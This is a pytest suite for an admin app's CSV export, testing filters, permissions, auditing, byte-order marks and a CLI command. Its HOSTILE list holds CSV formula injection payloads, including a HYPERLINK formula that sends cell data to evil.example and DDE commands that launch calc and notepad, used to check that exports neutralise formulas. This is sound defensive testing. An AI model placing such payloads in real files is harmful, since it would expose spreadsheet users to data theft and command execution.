"""CSV exports through HTTP: the list's rows (filters, search, sort, all pages), the reader's columns, cells safe in a
spreadsheet, a byte-order mark on request, an audit entry per export; and `manage.py export`."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.testing import FlaskClient

from admin_app.extensions import db
from admin_app.models import AuditEntry, Job
from admin_app.services.export import neutralised
from tests.factories import CommentFactory, PostFactory, UserFactory

# OWASP's CSV injection examples and their kin: none may reach a spreadsheet as a formula.
HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+41 22 000 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '";=1+1;"',
    "plain text, with a comma",
    'quoted "words"\nand a second line',
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def test_staff_export_exactly_the_filtered_searched_sorted_list(client: FlaskClient, login_as: Any) -> None:
    post = PostFactory(body="Zq")
    for n in range(45):  # more than two pages of the list
        CommentFactory(post=post, body=f"wave {n:02d}", disabled=n % 3 == 0, timestamp=datetime(2026, 1, 1, 0, n))
    CommentFactory(post=post, body="other", disabled=True)
    login_as("staff")

    rows = rows_of(client.get("/admin/comment/export/csv/?flt0_disabled_equals=1&search=wave&sort=4&desc=1"))

    header, data = rows[0], rows[1:]
    assert header == ["ID", "Author", "Post ID", "Text", "Posted", "Disabled", "Reason", "Moderated at"]
    assert [row[3] for row in data] == [f"wave {n:02d}" for n in range(42, -1, -3)]  # 15 rows, newest first
    assert data[0][4] == "2026-01-01T00:42:00Z"  # ISO 8601, UTC, the zone stated
    assert {row[5] for row in data} == {"true"}


def test_hostile_values_never_come_out_as_formulas(client: FlaskClient, login_as: Any) -> None:
    for text in HOSTILE:
        CommentFactory(body=text)
    login_as("staff")

    bodies = [row[3] for row in rows_of(client.get("/admin/comment/export/csv/"))[1:]]

    assert sorted(bodies) == sorted(neutralised(text) for text in HOSTILE)
    assert not [body for body in bodies if body.startswith(FORMULA_STARTS)]


def test_excel_gets_a_byte_order_mark_on_request_and_the_file_is_named_by_date(
    client: FlaskClient, login_as: Any
) -> None:
    CommentFactory(body="café, 東京, القاهرة")
    login_as("staff")

    plain = client.get("/admin/comment/export/csv/")
    excel = client.get("/admin/comment/export/csv/?bom=1")

    assert not plain.data.startswith(b"\xef\xbb\xbf") and excel.data.startswith(b"\xef\xbb\xbf")
    assert "café, 東京, القاهرة" in excel.data.decode("utf-8-sig")
    assert plain.headers["Content-Disposition"] == f'attachment; filename="comments-{datetime.now():%Y-%m-%d}.csv"'


def test_columns_follow_what_the_reader_may_see(client: FlaskClient, login_as: Any) -> None:
    UserFactory(email="private.person@example.org", username="handle7", roles=["moderator"])
    login_as("staff")

    members = rows_of(client.get("/admin/member/export/csv/"))
    assert "Email" not in members[0] and "private.person@example.org" not in str(members)
    assert ["handle7", "moderator"] == [members[-1][1], members[-1][3]]
    assert client.get("/admin/user/export/csv/").status_code == 403


def test_administrators_export_personal_data_after_a_recent_login_only(app: Flask, login_as: Any) -> None:
    client = app.test_client()
    from tests.conftest import sign_in

    admin = UserFactory(roles=["admin"])
    sign_in(client, admin)
    assert "Email" in rows_of(client.get("/admin/user/export/csv/"))[0]

    with client.session_transaction() as session:
        session["fs_paa"] = 0  # the login happened long ago
    response = client.get("/admin/user/export/csv/")
    assert response.status_code == 302 and response.headers["Location"].startswith("/verify")


def test_moderators_cannot_export_and_see_no_export_menu(client: FlaskClient, login_as: Any) -> None:
    login_as("moderator")
    assert client.get("/admin/comment/export/csv/").status_code == 403
    assert 'id="export-menu"' not in client.get("/admin/comment/").text


def test_staff_see_the_export_menu_carrying_the_lists_arguments(client: FlaskClient, login_as: Any) -> None:
    login_as("staff")
    page = client.get("/admin/comment/?flt0_disabled_equals=1&search=wave").text
    assert 'id="export-menu"' in page
    assert "/admin/comment/export/csv/?flt0_disabled_equals=1&amp;search=wave" in page


def test_headers_are_in_the_readers_language(client: FlaskClient) -> None:
    from tests.conftest import sign_in

    CommentFactory()
    sign_in(client, UserFactory(roles=["staff"], locale="es_ES"))
    assert rows_of(client.get("/admin/comment/export/csv/"))[0][:2] == ["ID", "Autor"]


def test_every_export_is_audited_with_its_filters_and_row_count(client: FlaskClient, login_as: Any) -> None:
    CommentFactory.create_batch(3, disabled=True)
    CommentFactory()
    staff = login_as("staff")

    client.get("/admin/comment/export/csv/?flt0_disabled_equals=1")

    entry = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "comment.export")).one()
    assert (entry.actor_id, entry.target) == (staff.id, "comments")
    assert entry.details["arguments"] == {"flt0_disabled_equals": "1"}
    assert (entry.details["rows"], entry.details["complete"]) == (3, True)


def test_an_unknown_export_type_is_not_found(client: FlaskClient, login_as: Any) -> None:
    login_as("staff")
    assert client.get("/admin/comment/export/xlsx/").status_code == 404


def test_the_command_exports_the_same_rows_with_progress_on_stderr(app: Flask) -> None:
    staff = UserFactory(roles=["staff"])
    CommentFactory.create_batch(2, disabled=True, body="=1+1")
    CommentFactory()

    result = app.test_cli_runner().invoke(
        args=["export", "comment", "--as", staff.email, "--filter", "flt0_disabled_equals=1"]
    )

    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert len(rows) == 3 and {row[3] for row in rows[1:]} == {"'=1+1"}
    assert "2 rows exported." in result.stderr
    details = db.session.scalars(sa.select(AuditEntry.details).where(AuditEntry.action == "comment.export")).one()
    assert details["rows"] == 2


@pytest.mark.parametrize(
    ("args", "complaint"),
    [
        (["export", "nothing", "--as", "x@example.org"], "no list view named 'nothing'"),
        (["export", "comment", "--as", "nobody@example.org"], "no active user"),
        (["export", "comment", "--as", "{moderator}"], "may not export comment"),
        (["export", "comment", "--as", "{staff}", "--filter", "oops"], "is not NAME=VALUE"),
    ],
)
def test_the_command_refuses_clearly(app: Flask, args: list[str], complaint: str) -> None:
    accounts = {"moderator": UserFactory(roles=["moderator"]).email, "staff": UserFactory(roles=["staff"]).email}
    result = app.test_cli_runner().invoke(args=[arg.format(**accounts) for arg in args])
    assert result.exit_code != 0
    assert complaint in result.output


@pytest.mark.parametrize("background", ["0", "1"])
def test_arguments_the_list_refuses_are_a_400_at_once_never_a_job_that_fails(
    client: FlaskClient, login_as: Any, background: str
) -> None:
    login_as("staff")
    response = client.get("/admin/comment/export/csv/", query_string={"sort": "99", "background": background})
    assert response.status_code == 400
    assert "“sort” must be a whole number from 0 to 5." in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Job)) == 0
